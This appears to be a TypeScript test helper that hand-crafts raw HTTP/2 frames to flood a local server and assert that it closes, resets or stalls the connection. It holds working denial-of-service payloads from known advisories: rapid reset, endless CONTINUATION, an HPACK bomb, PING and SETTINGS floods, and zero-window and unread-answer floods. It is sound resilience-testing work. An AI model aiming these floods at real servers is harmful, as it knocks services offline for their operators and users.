/**
 * HTTP/2 as an attacker writes it: frames by hand, in any order and number, to a server that has to survive them. Node's own client
 * sends none of these. The floods are those of the advisories that docs/security/advisories.md lists.
 */
import assert from "node:assert/strict";
import { connect, type Socket } from "node:net";
import { connect as connectTls } from "node:tls";

export interface FloodTarget {
  readonly port: number;
  /** The path of a method that the server has. */
  readonly path: string;
  /** With a key and a certificate the client proves itself. */
  readonly tls: boolean | ClientProof;
  /** Of the method, encoded: floods that need an answer ask with it. */
  readonly message?: Uint8Array;
  /** 127.0.0.1 unless given. */
  readonly localAddress?: string;
  /** Protocols of the handshake that the client takes: HTTP/2 unless given. */
  readonly alpn?: readonly string[];
}

export interface ClientProof {
  readonly key: string;
  readonly cert: string;
}

/** How a flood ended. */
export interface FloodResult {
  /** `closed` by the server; `stalled`: it reads no more, as its answers are not read; `taken`: all of it was read. */
  readonly end: "closed" | "stalled" | "taken";
  /** That the server took, the handshake of TLS not counted. */
  readonly sentBytes: number;
  /** Of the server's GOAWAY; undefined when it sent none, or it was not read. */
  readonly goawayCode: number | undefined;
  /** Number of streams that the server reset, by error code, as far as the client read. */
  readonly resets: Readonly<Record<number, number>>;
}

export interface Flood {
  readonly name: string;
  /** Parts that are written one after the other, each when the one before has left. */
  readonly parts: (path: string, message?: Uint8Array) => Generator<Buffer>;
  /** Answers are left in the socket. */
  readonly isDeaf?: boolean;
  /** Begins with its first part, without the preface of HTTP/2. */
  readonly isOtherProtocol?: boolean;
  /** False: a server may take all of it, as it costs a server less than who sends it, and keep nothing. */
  readonly endsConnection?: boolean;
  /** The code by which the server resets each stream of the flood that it does not end. */
  readonly resetCode?: number;
}

const preface = Buffer.from("PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n");
const type = { data: 0, headers: 1, reset: 3, settings: 4, ping: 6, goaway: 7, windowUpdate: 8, continuation: 9 };
const endHeaders = 4;
/** A PING sent after each flood. */
const lastPing = Buffer.from("all read");
const enhanceYourCalm = 11;
const streamsOfBomb = 1_000;
const largestWindow = Buffer.of(0x7f, 0xff, 0xff, 0xff);
const perPart = 1_000;
const stalledAfterMs = 1_000;

/**
 * Connects, sends the flood, and reports how it ended: `taken` once the server has answered a PING behind the flood, so that a connection that
 * its keepalive ends later does not count as closed. One that the server may leave open is held until `heldUntil` resolves.
 */
export async function sendFlood(target: FloodTarget, flood: Flood, heldUntil?: Promise<unknown>): Promise<FloodResult> {
  const { isDeaf = false, isOtherProtocol = false, endsConnection = true } = flood;
  const socket = await open(target);
  const { promise: closed, resolve: close } = Promise.withResolvers<void>();
  let end: FloodResult["end"] = "taken";
  let sentBytes = 0;
  const answers = answerReader();
  if (!isDeaf) socket.on("data", answers.read);
  socket.on("error", () => undefined);
  socket.once("close", () => {
    end = "closed";
    close();
  });
  const write = async (bytes: Buffer): Promise<void> => {
    const { promise, resolve } = Promise.withResolvers<void>();
    socket.write(bytes, (error) => {
      if (error == null) sentBytes += bytes.length;
      else end = "closed";
      resolve();
    });
    const onStalled = (): void => {
      end = "stalled";
      resolve();
    };
    // A slow server is waited for: one whose answers are read has no reason to stop reading.
    const timer = isDeaf ? setTimeout(onStalled, stalledAfterMs) : undefined;
    await Promise.race([promise, closed]);
    clearTimeout(timer);
  };
  if (!isOtherProtocol) await write(Buffer.concat([preface, frame(type.settings, 0, 0)]));
  for (const part of flood.parts(target.path, target.message)) {
    if (end !== "taken") break;
    await write(part);
  }
  if (!isOtherProtocol && end === "taken") socket.write(frame(type.ping, 0, 0, lastPing));
  if (endsConnection) {
    if (isDeaf) socket.on("data", answers.read);
    if (end === "taken") await Promise.race([answers.lastPing, closed]);
  } else {
    if (!isDeaf) await Promise.race([answers.lastPing, closed]);
    await Promise.race([heldUntil, closed]);
  }
  socket.destroy();
  return { end, sentBytes, ...answers.seen };
}

/**
 * The connection was closed, streams were reset, or, where answers are not read, the server stopped reading.
 * @throws AssertionError when the flood met none of the bounds that it should meet
 */
export function assertBounded({ isDeaf, endsConnection, resetCode }: Flood, result: FloodResult): void {
  const text = JSON.stringify(result);
  if (endsConnection !== false) assert.ok(result.end === "closed" || (isDeaf && result.end === "stalled"), text);
  else if (resetCode !== undefined && result.end === "taken")
    assert.deepEqual(result.resets, { [resetCode]: streamsOfBomb }, text);
}

async function open({ port, tls, alpn = ["h2"], localAddress = "127.0.0.1" }: FloodTarget): Promise<Socket> {
  const { promise, resolve, reject } = Promise.withResolvers<void>();
  const to = { port, host: "127.0.0.1", localAddress };
  const proof = typeof tls === "boolean" ? {} : tls;
  const isTls = tls !== false;
  const secure = { ...to, ...proof, ALPNProtocols: [...alpn], rejectUnauthorized: false };
  const socket = isTls ? connectTls(secure) : connect(to);
  socket.once(isTls ? "secureConnect" : "connect", resolve);
  socket.once("error", reject);
  await promise;
  return socket;
}

/** One for each class of attack on a server of HTTP/2. */
export const http2Floods: readonly Flood[] = [
  { name: "rapid reset", parts: (path) => everyStream(100_000, (id) => [request(id, path), reset(id)]) },
  {
    name: "resets that the server is provoked to send",
    parts: (path) => everyStream(100_000, (id) => [malformed(id, path)]),
  },
  {
    name: "windows beyond their maximum",
    parts: (path) => everyStream(100_000, (id) => [request(id, path), frame(type.windowUpdate, 0, id, largestWindow)]),
  },
  { name: "endless CONTINUATION", parts: endlessContinuation },
  { name: "PING", isDeaf: true, parts: () => repeated(2_000_000, frame(type.ping, 0, 0, Buffer.alloc(8))) },
  { name: "SETTINGS", isDeaf: true, parts: () => repeated(2_000_000, frame(type.settings, 0, 0)) },
  { name: "HPACK bomb", endsConnection: false, resetCode: enhanceYourCalm, parts: hpackBomb },
  { name: "empty DATA", endsConnection: false, parts: emptyData },
  { name: "zero windows", endsConnection: false, parts: (path, message) => withoutWindow(path, message) },
  { name: "answers that are not read", isDeaf: true, endsConnection: false, parts: unreadAnswers },
];

/** Over HTTP/1.1: requests one behind the other, whose answers are left in the socket. */
export const pipelinedRequests: Flood = {
  name: "requests whose answers are not read",
  isDeaf: true,
  isOtherProtocol: true,
  parts: (path) => {
    const body = JSON.stringify({ request: { uid: "1", object: "x".repeat(1_000) } });
    const head = `POST ${path} HTTP/1.1\r\nhost: localhost\r\ncontent-type: application/json\r\n`;
    return repeated(200_000, Buffer.from(`${head}content-length: ${body.length}\r\n\r\n${body}`));
  },
};

/** Asks on `count` streams of one connection, and ends none of them. */
export function openStreams(count: number): Flood {
  return { name: `${count} streams`, endsConnection: false, parts: (path, message) => asked(path, message, count) };
}

function* everyStream(count: number, framesOf: (id: number) => readonly Buffer[]): Generator<Buffer> {
  for (let first = 0; first < count; first += perPart) {
    const frames = Array.from({ length: perPart }, (_, at) => framesOf(2 * (first + at) + 1)).flat();
    yield Buffer.concat(frames);
  }
}

function* repeated(count: number, one: Buffer): Generator<Buffer> {
  const part = Buffer.concat(Array.from({ length: perPart }, () => one));
  for (let sent = 0; sent < count; sent += perPart) yield part;
}

/** 64 MiB of headers that never end. */
function* endlessContinuation(path: string): Generator<Buffer> {
  yield frame(type.headers, 0, 1, requestBlock(path));
  const block = Buffer.concat(Array.from({ length: 100 }, (_, at) => literal(`x-${at}`, "v".repeat(100))));
  for (let sent = 0; sent < 64 * 1024 * 1024; sent += block.length) yield frame(type.continuation, 0, 1, block);
}

/** Each stream repeats an entry of 4,000 bytes of the dynamic table 10,000 times: 40 MB of headers in 10 kB. */
function* hpackBomb(path: string): Generator<Buffer> {
  const entry = Buffer.concat([Buffer.of(0x40), text("x"), text("v".repeat(4_000))]);
  const repeats = Buffer.alloc(10_000, 0xbe);
  for (let stream = 0; stream < streamsOfBomb; stream++) {
    const block = Buffer.concat([requestBlock(path), ...(stream === 0 ? [entry] : []), repeats]);
    yield frame(type.headers, endHeaders, 2 * stream + 1, block);
  }
}

function* emptyData(path: string): Generator<Buffer> {
  yield request(1, path);
  yield* repeated(200_000, frame(type.data, 0, 1));
}

/** Of each stream, and then of none: 1,000 calls whose answers find no window. */
function* withoutWindow(path: string, message?: Uint8Array): Generator<Buffer> {
  yield frame(type.settings, 0, 0, Buffer.of(0, 4, 0, 0, 0, 0));
  yield* asked(path, message, 1_000);
}

/** 1,000 calls with all the window that there is, so that the answers wait in the server or in sockets. */
function* unreadAnswers(path: string, message?: Uint8Array): Generator<Buffer> {
  yield frame(type.settings, 0, 0, Buffer.of(0, 4, 0x7f, 0xff, 0xff, 0xff));
  yield frame(type.windowUpdate, 0, 0, Buffer.of(0x7f, 0, 0, 0));
  yield* asked(path, message, 1_000);
}

function* asked(path: string, message: Uint8Array | undefined, count: number): Generator<Buffer> {
  const head = Buffer.alloc(5);
  head.writeUInt32BE(message?.length ?? 0, 1);
  const call = message === undefined ? undefined : Buffer.concat([head, message]);
  for (let at = 0; at < count; at++) {
    const id = 2 * at + 1;
    yield call === undefined ? request(id, path) : Buffer.concat([request(id, path), frame(type.data, 0, id, call)]);
  }
}

function request(id: number, path: string): Buffer {
  return frame(type.headers, endHeaders, id, requestBlock(path));
}

/** Answered by a reset of the stream: HTTP/2 has no header of this name. */
function malformed(id: number, path: string): Buffer {
  return frame(type.headers, endHeaders, id, Buffer.concat([requestBlock(path), literal("connection", "close")]));
}

function reset(id: number): Buffer {
  return frame(type.reset, 0, id, Buffer.of(0, 0, 0, 8));
}

/** A frame of HTTP/2. */
function frame(kind: number, flags: number, stream: number, payload: Buffer = Buffer.alloc(0)): Buffer {
  const head = Buffer.alloc(9);
  head.writeUIntBE(payload.length, 0, 3);
  head.writeUInt8(kind, 3);
  head.writeUInt8(flags, 4);
  head.writeUInt32BE(stream, 5);
  return Buffer.concat([head, payload]);
}

/** Headers of a call by gRPC: indexed fields of the static table where it has them. */
function requestBlock(path: string): Buffer {
  const method = Buffer.of(0x83, 0x86);
  const named = Buffer.concat([Buffer.of(0x04), text(path), Buffer.of(0x01), text("localhost")]);
  return Buffer.concat([method, named, literal("content-type", "application/grpc"), literal("te", "trailers")]);
}

/** Not added to the dynamic table. */
function literal(name: string, value: string): Buffer {
  return Buffer.concat([Buffer.of(0), text(name), text(value)]);
}

/** Without Huffman's code; the length is an integer with a prefix of seven bits. */
function text(value: string): Buffer {
  const bytes = Buffer.from(value);
  if (bytes.length < 127) return Buffer.concat([Buffer.of(bytes.length), bytes]);
  const rest = [];
  let left = bytes.length - 127;
  for (; left >= 128; left >>= 7) rest.push((left & 127) | 128);
  return Buffer.concat([Buffer.of(127, ...rest, left), bytes]);
}

interface Answers {
  readonly read: (chunk: Buffer) => void;
  readonly seen: { goawayCode: number | undefined; readonly resets: Record<number, number> };
  /** Resolves when the server has answered the PING behind the flood. */
  readonly lastPing: Promise<void>;
}

function answerReader(): Answers {
  const { promise, resolve } = Promise.withResolvers<void>();
  const seen: Answers["seen"] = { goawayCode: undefined, resets: {} };
  const read = frameReader((kind, payload) => {
    if (kind === type.goaway && payload.length >= 8) seen.goawayCode = payload.readUInt32BE(4);
    if (kind === type.ping && payload.equals(lastPing)) resolve();
    if (kind !== type.reset) return;
    const code = payload.readUInt32BE(0);
    seen.resets[code] = (seen.resets[code] ?? 0) + 1;
  });
  return { read, seen, lastPing: promise };
}

function frameReader(onFrame: (kind: number, payload: Buffer) => void): (chunk: Buffer) => void {
  let waiting = Buffer.alloc(0);
  return (chunk) => {
    waiting = Buffer.concat([waiting, chunk]);
    while (waiting.length >= 9) {
      const end = 9 + waiting.readUIntBE(0, 3);
      if (waiting.length < end) return;
      onFrame(waiting.readUInt8(3), waiting.subarray(9, end));
      waiting = waiting.subarray(end);
    }
  };
}
